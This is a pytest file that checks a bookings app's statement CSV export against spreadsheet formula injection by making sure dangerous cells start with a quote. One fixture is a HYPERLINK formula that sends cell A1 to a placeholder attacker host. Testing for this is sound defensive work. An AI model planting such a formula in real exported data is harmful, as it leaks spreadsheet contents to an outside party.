"""A company's statement CSV opens in a spreadsheet as text: no cell runs as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from bookings.core.statements import CentreLine, Statement, statement_csv

DANGEROUS_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+91 Kollam",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(statement: Statement) -> list[list[str]]:
    return list(csv.reader(io.StringIO(statement_csv(statement))))


@pytest.mark.parametrize("name", DANGEROUS_NAMES, ids=["=", "+", "-", "@", "tab", "CR"])
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(name):
    line = CentreLine(
        centre_id=1,
        centre_name=name,
        seat_day_rate=Decimal("150.00"),
        pod_seat_day_rate=Decimal("150.00"),
        rate_from=date(2026, 11, 1),
    )
    statement = Statement(company=None, month=date(2026, 11, 1), lines=[line])

    centre_cell = rows_of(statement)[1][0]

    assert centre_cell == "'" + name


def test_ordinary_cells_and_amounts_are_left_as_they_are():
    line = CentreLine(
        centre_id=1,
        centre_name="Kottarakkara WNH",
        seat_day_rate=Decimal("150.00"),
        pod_seat_day_rate=Decimal("150.00"),
        rate_from=date(2026, 11, 1),
        seat_days=3,
        seat_amount=Decimal("450.00"),
    )
    statement = Statement(company=None, month=date(2026, 11, 1), lines=[line])

    header, row, total = rows_of(statement)

    assert row[0] == "Kottarakkara WNH"
    assert row[-1] == "450.00"
    assert total[0] == "TOTAL"
    assert total[-1] == "450.00"
